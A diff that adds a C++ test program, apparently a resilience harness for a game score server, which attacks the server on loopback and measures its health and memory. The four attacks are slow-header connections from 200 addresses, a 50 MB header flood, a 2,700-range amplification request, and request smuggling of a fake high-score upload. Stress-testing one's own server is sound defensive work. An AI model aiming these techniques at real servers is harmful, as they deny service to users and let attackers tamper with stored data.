@@ -1,0 +1,138 @@
+// Attacks on a running score server from this machine, each measured:
+//   server_attack PORT PID [SECONDS]
+// slow heads from 200 loopback addresses while /healthz is timed from
+// another, a 50 MB header flood, a many-ranged read and an upload hidden in
+// a GET's body. PID is the server's, for its resident memory. One "RESULT"
+// line per attack.
+#include <algorithm>
+#include <chrono>
+#include <cstdio>
+#include <cstdlib>
+#include <fstream>
+#include <memory>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "tests/server/raw_client.h"
+
+namespace {
+
+using Clock = std::chrono::steady_clock;
+int port = 0;
+pid_t pid = 0;
+
+long ResidentKb() {
+  std::ifstream status("/proc/" + std::to_string(pid) + "/status");
+  std::string line;
+  while (std::getline(status, line)) {
+    if (line.rfind("VmRSS:", 0) == 0) return std::stol(line.substr(6));
+  }
+  return -1;
+}
+
+double Since(Clock::time_point t) { return std::chrono::duration<double>(Clock::now() - t).count(); }
+
+// One /healthz on a fresh connection; its seconds, or -1 when it failed.
+double TimedHealth() {
+  const auto start = Clock::now();
+  RawClient client(port, "127.0.0.1");
+  if (!client.Connected()) return -1;
+  client.Send("GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
+  const std::string answer = client.ReadAll(5);
+  return answer.rfind("HTTP/1.1 200", 0) == 0 ? Since(start) : -1;
+}
+
+void SlowHeads(double seconds) {
+  const long before = ResidentKb();
+  std::vector<std::unique_ptr<RawClient>> slow;
+  for (int a = 0; a < 200; ++a) {
+    for (int k = 0; k < 4; ++k) {
+      const std::string from = "127.0.1." + std::to_string(a + 1);
+      slow.push_back(std::make_unique<RawClient>(port, from.c_str()));
+      slow.back()->Send("GET /games/Quibbleton HTTP/1.1\r\nHost: x\r\n");
+    }
+  }
+  std::vector<double> times;
+  int failed = 0;
+  long peak = before;
+  const auto start = Clock::now();
+  auto lastLine = start;
+  while (Since(start) < seconds) {
+    // One header line every 3 s from each: about 170 bytes a second in all.
+    if (Since(lastLine) >= 3) {
+      for (auto& client : slow) client->Send("X-Slow: 1\r\n");
+      lastLine = Clock::now();
+    }
+    const double t = TimedHealth();
+    if (t < 0) ++failed; else times.push_back(t);
+    peak = std::max(peak, ResidentKb());
+    std::this_thread::sleep_for(std::chrono::milliseconds(50));
+  }
+  std::sort(times.begin(), times.end());
+  auto at = [&](double q) { return times.empty() ? -1.0 : times[std::min(times.size() - 1, size_t(q * times.size()))]; };
+  std::printf("RESULT slow heads: 800 connections from 200 addresses, %zu /healthz answered, %d failed, "
+              "p50 %.1f ms, p99 %.1f ms, max %.1f ms; memory %ld kB -> peak %ld kB (+%ld kB)\n",
+              times.size(), failed, at(0.5) * 1000, at(0.99) * 1000, times.empty() ? -1.0 : times.back() * 1000, before,
+              peak, peak - before);
+}
+
+void HeaderFlood() {
+  const long before = ResidentKb();
+  RawClient client(port, "127.0.0.1");
+  client.Send("GET / HTTP/1.1\r\nHost: x\r\n");
+  const std::string line = "X-Flood: " + std::string(8192, 'a') + "\r\n";
+  size_t sent = 0;
+  const auto start = Clock::now();
+  while (sent < 50u * 1024 * 1024 && client.Send(line)) sent += line.size();
+  const std::string answer = client.ReadAll(2);
+  const long after = ResidentKb();
+  std::printf("RESULT header flood: %.1f MB of 50 MB taken in %.2f s, answer \"%s\"; memory %ld kB -> %ld kB "
+              "(%+ld kB)\n",
+              sent / 1048576.0, Since(start), answer.substr(0, answer.find('\r')).c_str(), before, after,
+              after - before);
+}
+
+void Ranges() {
+  // Each "0-" asks for the whole page again.
+  std::string ranges = "bytes=0-";
+  for (int i = 1; i < 2700; ++i) ranges += ",0-";
+  const std::string request =
+      "GET /games/Quibbleton HTTP/1.1\r\nHost: x\r\nRange: " + ranges + "\r\nConnection: close\r\n\r\n";
+  RawClient client(port, "127.0.0.1");
+  client.Send(request);
+  const std::string answer = client.ReadAll(5);
+  std::printf("RESULT ranges: a %zu-byte request with 2,700 ranges got %zu bytes (%.2fx), \"%s\"\n", request.size(),
+              answer.size(), double(answer.size()) / request.size(), answer.substr(0, answer.find('\r')).c_str());
+}
+
+void Smuggle() {
+  const std::string hidden =
+      "GET /cgi-bin/hiscore.cgi?game=Smuggled&name=Mallory:::Y&score=129481655 HTTP/1.1\r\nHost: x\r\n\r\n";
+  RawClient client(port, "127.0.0.1");
+  client.Send("GET / HTTP/1.1\r\nHost: x\r\nContent-Length: " + std::to_string(hidden.size()) + "\r\n\r\n" + hidden);
+  const std::string answer = client.ReadAll(3);
+  RawClient check(port, "127.0.0.1");
+  check.Send("GET /api/games/Smuggled/scores HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
+  const std::string board = check.ReadAll(3);
+  std::printf("RESULT smuggled upload: %d answer(s) to one request, closed %s; the hidden upload %s\n",
+              Answers(answer), client.Closed() ? "yes" : "no",
+              board.rfind("HTTP/1.1 200", 0) == 0 ? "WAS STORED" : "was not stored");
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  if (argc < 3) {
+    std::fprintf(stderr, "usage: server_attack PORT PID [SECONDS]\n");
+    return 2;
+  }
+  port = std::atoi(argv[1]);
+  pid = std::atoi(argv[2]);
+  const double seconds = argc > 3 ? std::atof(argv[3]) : 10;
+  SlowHeads(seconds);
+  HeaderFlood();
+  Ranges();
+  Smuggle();
+  return 0;
+}
